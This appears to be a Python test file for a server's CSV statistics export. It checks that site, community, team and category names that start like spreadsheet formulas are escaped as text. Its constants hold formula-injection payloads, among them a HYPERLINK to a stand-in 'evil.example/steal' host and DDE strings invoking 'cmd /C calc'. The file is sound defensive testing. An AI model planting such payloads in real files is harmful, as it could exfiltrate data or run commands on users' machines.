"""No CSV the server writes holds a cell a spreadsheet would run: a site, community or team named like a formula
comes out as text, and a file we read back (the 12345 export) gives back exactly the text written."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server import spreadsheet
from tests.staff_support import report, running_app, signed_in

SITE_NAME = '=HYPERLINK("http://evil.example/steal","点我")'
COMMUNITY = "@SUM(1+1)*cmd|' /C calc'!A0"
TEAM_NAME = "+1+cmd|' /C calc'!A0"
CATEGORY_NAME = "-2+3"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "-", "'=1", "''+1"])
def test_formula_starts_become_text(value: str) -> None:
    # A spreadsheet hides a leading apostrophe, so text that has one before a formula start gets another.
    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["天鑫社区", "1+1=2", "a-b", "", " =1", "'", "'abc", "''"])
def test_other_text_and_numbers_stay_as_they_are(value: str) -> None:
    assert spreadsheet.cell(value) == value
    assert spreadsheet.cell(-3) == -3 and spreadsheet.cell(2.5) == 2.5


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1公"), max_size=8) | st.text(max_size=20))
def test_a_cell_read_back_is_the_text_written(value: str) -> None:
    written = spreadsheet.cell(value)
    assert spreadsheet.read_cell(written) == value
    assert not written.startswith(spreadsheet.FORMULA_STARTS)


async def test_stats_csv_names_that_start_like_formulas_come_out_as_text(tmp_path: Path) -> None:
    async with running_app(tmp_path) as app:
        async with signed_in(app, "admin") as admin:
            r = await admin.post("/api/admin/teams", json={"code": "EVIL-T", "name": TEAM_NAME, "kind": "grid"})
            assert r.status_code == 201, r.text
            r = await admin.post("/api/admin/sites", json={"code": "EVIL-1", "name": SITE_NAME, "kind": "community",
                                                           "community": COMMUNITY, "default_team": "EVIL-T"})
            assert r.status_code == 201, r.text
            r = await admin.patch("/api/admin/categories/other", json={"name_zh": CATEGORY_NAME})
            assert r.status_code == 200, r.text
            await report(app, site="EVIL-1", category="other")
            for by, name in (("site", SITE_NAME), ("community", COMMUNITY), ("team", TEAM_NAME),
                             ("category", CATEGORY_NAME)):
                r = await admin.get(f"/api/stats.csv?by={by}")
                assert r.status_code == 200
                rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
                cells = [c for row in rows for c in row]
                assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_STARTS)], (by, rows)
                assert "'" + name in cells, (by, rows)
